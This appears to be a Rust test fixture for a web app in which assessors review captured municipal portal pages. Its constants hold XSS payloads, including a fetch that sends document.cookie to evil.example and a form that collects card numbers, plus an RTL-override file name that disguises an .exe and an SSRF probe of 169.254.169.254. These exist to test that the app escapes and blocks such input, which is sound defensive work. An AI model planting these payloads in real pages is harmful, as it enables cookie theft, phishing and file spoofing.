//! A city with three captured pages and two slots, served on loopback.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use archive::{Archive, Settings};
use model::{
    Band, Code, Country, Coverage, Criterion, Date, Digest, Duty, Errand, Evidence, Exchange, Finding, Headers, Indicator,
    Instrument, Kind, PageKind, Place, Portal, Purpose, Quote, Record, Region, Scope, Seen, SeenAs, Slot, Time, UrlKey, Via,
    Visit,
};
use review::{App, Doing, Outside, Rules, Setup};
use serde_json::{Value, json};
use store::{Assignment, Campaign, CaptureId, Captured, Kept, NewSurvey, Outcome, RunId, Session, Store, SurveyId};
use tempfile::TempDir;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use url::Url;

/// What the Arabic page says: an emoji and a letter with a mark before the passage, so that bytes, UTF-16 units and code points
/// differ.
pub(crate) const ARABIC: &str = "بلدية 😀 المدينة\nادفع ضريبة الأملاك هنا. اتصل بنا. ادفع  الرسوم. اتصل بنا.";

/// A page that means harm.
pub(crate) const HOSTILE: &str = "<!doctype html><html><head><title>Fees<script>alert('title')</script></title>\
    <meta http-equiv=refresh content='0;url=https://evil.example/'></head><body onload=\"window.open('https://evil.example')\">\
    <h1>Fees</h1><script>fetch('https://evil.example/?'+document.cookie)</script>\
    <form action=https://evil.example/><input name=card><button>Pay</button></form>\
    <svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>\
    <img src=https://evil.example/x.png onerror=alert(1) alt='Seal of the city'></body></html>";

/// Words of a link that mean harm.
pub(crate) const LINK: &str = "fees <script>alert('link')</script>";

pub(crate) fn at(second: i64) -> Time {
    Time::from_micros(1_790_000_000_000_000 + second * 1_000_000).unwrap()
}

pub(crate) struct Ground {
    pub(crate) dir: TempDir,
    pub(crate) store: Store,
    address: std::net::SocketAddr,
    /// A text record that belongs to no capture yet.
    pub(crate) spare: Record,
}

pub(crate) struct Answer {
    pub(crate) status: u16,
    pub(crate) head: String,
    pub(crate) body: String,
}

impl Answer {
    pub(crate) fn json(&self) -> Value {
        serde_json::from_str(&self.body).unwrap_or_else(|error| panic!("{error}: {}", self.body))
    }

    /// A header field.
    pub(crate) fn field(&self, name: &str) -> &str {
        let line = self.head.lines().find_map(|line| line.split_once(": ").filter(|(own, _)| own.eq_ignore_ascii_case(name)));
        line.map_or("", |(_, value)| value)
    }
}

struct Rest {
    store: Store,
    archive: PathBuf,
}

impl Outside for Rest {
    fn read_list(&self, _: &str) -> Result<Vec<Portal>, Vec<(u64, String)>> {
        Ok(Vec::new())
    }
    fn survey<'a>(&'a self, _: &'a Campaign, _: Vec<Portal>) -> Doing<'a, SurveyId> {
        Box::pin(async { Err("not here".to_owned()) })
    }
    fn stop(&self, _: SurveyId) {}
    fn under_way(&self, _: SurveyId) -> bool {
        false
    }
    fn told(&self, _: SurveyId) -> Vec<String> {
        Vec::new()
    }
    fn fetch<'a>(&'a self, _: RunId, url: &'a Url, _: &'a str) -> Doing<'a, CaptureId> {
        Box::pin(async move {
            if url.host_str() == Some("169.254.169.254") {
                return Err("`169.254.169.254` is no public address".to_owned());
            }
            Ok(CaptureId(3))
        })
    }
    fn layer(&self, capture: CaptureId) -> Doing<'_, ()> {
        Box::pin(async move {
            let kept = self.store.layer(capture).await.map_err(|error| error.to_string())?;
            kept.map(drop).ok_or_else(|| "no text".to_owned())
        })
    }
    fn markup(&self, capture: CaptureId) -> Doing<'_, Option<String>> {
        Box::pin(async move {
            let captured = self.store.capture(capture).await.map_err(|error| error.to_string())?.ok_or("no capture")?;
            let exchange = archive::read(&self.archive, &captured.record).map_err(|error| error.to_string())?;
            Ok(Some(String::from_utf8_lossy(&exchange.body).into_owned()))
        })
    }
    fn sign(&self) -> Doing<'_, String> {
        Box::pin(async { Err("not here".to_owned()) })
    }
    fn walk<'a>(&'a self, _: &'a str, _: u32, _: &'a str, _: &'a Code) -> Doing<'a, (String, bool)> {
        Box::pin(async { Err("not here".to_owned()) })
    }
}

fn portal() -> Portal {
    Portal {
        id: "pioz".to_owned(),
        city: "Pioz <script>alert('city')</script>".to_owned(),
        country: Country::new("ES").unwrap(),
        home: Url::parse("https://pioz.example/").unwrap(),
        hosts: Vec::new(),
        languages: Vec::new(),
        notes: String::new(),
    }
}

fn instrument() -> Instrument {
    let indicator = |code: &str| Indicator {
        code: Code::new(code).unwrap(),
        criterion: "SP".to_owned(),
        title: format!("Question {code}"),
        seen: "A way to pay online.".to_owned(),
        not_enough: "A form to print.".to_owned(),
        scope: Scope::Portal,
        kind: Kind::Service,
    };
    Instrument {
        edition: "tiny".to_owned(),
        title: "Tiny".to_owned(),
        language: "en".to_owned(),
        denominator: 2,
        criteria: vec![Criterion { id: "SP".to_owned(), name: "Services".to_owned() }],
        bands: Vec::new(),
        indicators: vec![indicator("1"), indicator("2")],
    }
}

fn exchange(url: &Url, body: &str) -> Exchange {
    Exchange {
        purpose: Purpose::Answer,
        url: url.clone(),
        request: Headers(Vec::new()),
        sent: at(2),
        done: at(3),
        version: "HTTP/1.1".to_owned(),
        status: 200,
        headers: Headers(vec![(
            "content-type".to_owned(),
            if url.path().ends_with(".pdf") { "application/pdf" } else { "text/html; charset=utf-8" }.to_owned(),
        )]),
        body: body.as_bytes().to_vec(),
        address: None,
        resolved: Vec::new(),
        tls: None,
        truncated: None,
    }
}

/// What the machine proposes: a passage of the third page for one question, one of the second for the other.
fn findings() -> Vec<Finding> {
    let evidence = |visit: u32, url: &str, exact: &str, start: u32| Evidence {
        visit,
        url: url.to_owned(),
        quote: Quote {
            exact: exact.to_owned(),
            prefix: String::new(),
            suffix: String::new(),
            position: Some((start, start + u32::try_from(exact.chars().count()).unwrap())),
        },
        place: Place::Body,
        worth: 1.0,
        signals: Vec::new(),
        chain: None,
    };
    let finding = |code: &str, evidence| Finding {
        code: Code::new(code).unwrap(),
        answer: model::Answer::Present,
        band: Band::Medium,
        evidence,
        because: "seen".to_owned(),
    };
    vec![
        finding("1", vec![evidence(3, "https://pioz.example/fees", "Fees <script>alert('text')</script>", 0)]),
        finding("2", vec![evidence(2, "https://pioz.example/tax", "بلدية", 0)]),
    ]
}

/// A file whose name reads as another one where directions are believed.
pub(crate) const PDF: &str = "plan%E2%80%AEfdp.exe%0D%0Ax.pdf";

/// Four captures: home, one in Arabic, one that means harm, a file; texts of the second and third.
async fn survey(store: &Store, dir: &Path) -> (i64, Record) {
    let settings = Settings {
        prefix: "test".to_owned(),
        max_segment: 1 << 28,
        max_age: std::time::Duration::from_secs(900),
        level: 1,
        software: "portolan/0".to_owned(),
    };
    let mut archive = Archive::open(dir, settings).unwrap();
    let new = NewSurvey {
        campaign: "tiny".to_owned(),
        started: at(0),
        tool: "portolan 0".to_owned(),
        rulebook: Digest([7; 32]),
        settings: json!({}),
        seed: 1,
    };
    let survey = store.begin_survey(&new).await.unwrap();
    let run = store.begin_run(survey, &portal(), &json!({}), at(1)).await.unwrap();
    let pages = [
        ("", "<h1>Home</h1>", "Home of Pioz"),
        ("tax", "<p>ar</p>", ARABIC),
        ("fees", HOSTILE, "Fees <script>alert('text')</script> Pay"),
        (PDF, "%PDF-1.7 as it came", "Plan"),
    ];
    let (mut kept, mut texts, mut seen) = (Vec::new(), Vec::new(), Vec::new());
    for (no, (path, body, text)) in (1..).zip(pages) {
        let url = Url::parse(&format!("https://pioz.example/{path}")).unwrap();
        let key = UrlKey(format!("example,pioz)/{path}").into());
        let exchange = exchange(&url, body);
        let record = archive.append(&exchange, &json!(null)).unwrap();
        texts.push(archive.append_text(&record, &url, text, at(3)).unwrap());
        let via = (no > 1).then(|| Via { from: 1, href: format!("/{path}"), text: LINK.to_owned(), region: Region::Nav });
        let visit = Visit {
            no,
            url: url.clone(),
            key: key.clone(),
            errand: if no == 1 { Errand::Home } else { Errand::Page },
            via,
            depth: u16::from(no > 1),
            rule: "primary host".to_owned(),
            explored: false,
        };
        let captured = Captured::of(&exchange, key.clone(), record, None);
        let outcome = Outcome::Captured(Box::new(captured));
        kept.push(Kept { run, visit, outcome, exchanges: Vec::new(), robots: Vec::new(), refused: Vec::new() });
        let page =
            SeenAs::Page { kind: PageKind::Html, language: Some("ar".to_owned()), characters: 9, shell: false, cut: false };
        seen.push(Seen {
            visit: no,
            key,
            landed: None,
            url: url.to_string(),
            errand: Errand::Page,
            depth: 1,
            own: true,
            via: None,
            outcome: page,
        });
    }
    archive.close().unwrap();
    let ids = store.keep(&kept).await.unwrap();
    assert_eq!(ids, [1, 2, 3, 4].map(|id| Some(CaptureId(id))));
    let spare = texts.remove(0);
    store.put_layers(&[(CaptureId(2), texts.remove(0)), (CaptureId(3), texts.remove(0))]).await.unwrap();
    let coverage = Coverage {
        day: Date::new(2026, 11, 23).unwrap(),
        seen,
        waiting: Vec::new(),
        searches: Vec::new(),
        sitemap_urls: 0,
        lexicons: Vec::new(),
    };
    (store.put_findings(run, &Digest([7; 32]), "portolan 0", at(5), &coverage, &findings()).await.unwrap(), spare)
}

async fn people(store: &Store, judging: i64) {
    let campaign = Campaign {
        id: "tiny".to_owned(),
        title: "Tiny".to_owned(),
        instrument: "tiny".to_owned(),
        portals: vec![portal()],
        begun: at(6),
        by: "admin".to_owned(),
    };
    let rules = Rules { clean: 0, ..Rules::default() };
    store.put_campaign(&campaign, &json!(rules)).await.unwrap();
    for (person, slot) in [("ann", Slot::A), ("bob", Slot::B)] {
        store.put_person(person, "", at(6)).await.unwrap();
        store.set_duties(person, &[Duty::Assessor], "admin", at(6)).await.unwrap();
        let session = Session {
            id: format!("session of {person}"),
            person: person.to_owned(),
            form: format!("form-of-{person}"),
            agent: String::new(),
            begun: at(10),
            seen: at(10),
        };
        store.begin_session(&archive::digest(person.as_bytes()), &session).await.unwrap();
        let assignment = Assignment {
            id: format!("slot-of-{person}"),
            campaign: "tiny".to_owned(),
            portal: "pioz".to_owned(),
            round: 1,
            slot,
            seq: 1,
            person: person.to_owned(),
            judging: Some(judging),
            proposals: None,
            seed: 1,
            due: None,
            at: at(7),
            by: "admin".to_owned(),
        };
        store.put_assignment(&assignment).await.unwrap();
    }
}

impl Ground {
    pub(crate) async fn begin() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::open_or_create(&format!("sqlite:{}", dir.path().join("ledger.db").display())).await.unwrap();
        let archive = dir.path().join("archive");
        let (judging, spare) = survey(&store, &archive).await;
        people(&store, judging).await;
        let setup = Setup {
            store: store.clone(),
            archive: archive.clone(),
            instrument: instrument(),
            advice: review::Advice::default(),
            earlier: Vec::new(),
            atlas: review::Atlas::default(),
            origin: None,
            outside: Arc::new(Rest { store: store.clone(), archive }),
            clock: || at(20),
        };
        let app = App::new(setup).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        tokio::spawn(async move { review::serve(listener, app, std::future::pending()).await });
        Self { dir, store, address, spare }
    }

    async fn ask(&self, who: &str, head: &str, body: &str) -> Answer {
        let mut stream = TcpStream::connect(self.address).await.unwrap();
        let request = format!(
            "{head} HTTP/1.1\r\nhost: {}\r\ncookie: session={who}\r\nsec-fetch-site: same-origin\r\nconnection: close\r\n\
             content-type: application/x-www-form-urlencoded\r\ncontent-length: {}\r\n\r\n{body}",
            self.address,
            body.len()
        );
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut bytes = Vec::new();
        stream.read_to_end(&mut bytes).await.unwrap();
        let text = String::from_utf8(bytes).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        let status = head.split(' ').nth(1).unwrap().parse().unwrap();
        Answer { status, head: head.to_owned(), body: body.to_owned() }
    }

    pub(crate) async fn get(&self, who: &str, path: &str) -> Answer {
        self.ask(who, &format!("GET {path}"), "").await
    }

    pub(crate) async fn post(&self, who: &str, path: &str, fields: &[(&str, &str)]) -> Answer {
        let mut body = url::form_urlencoded::Serializer::new(String::new());
        body.append_pair("form", &format!("form-of-{who}")).extend_pairs(fields);
        self.ask(who, &format!("POST {path}"), &body.finish()).await
    }

    /// How many decisions there are.
    pub(crate) async fn decisions(&self) -> usize {
        self.store.made("decision", "tiny").await.unwrap().len()
    }
}

/// The value that follows `before` in a page, up to the next quotation mark.
pub(crate) fn after<'a>(page: &'a str, before: &str) -> &'a str {
    let at = page.find(before).unwrap_or_else(|| panic!("no `{before}` in {page}")) + before.len();
    page[at..].split('"').next().unwrap()
}
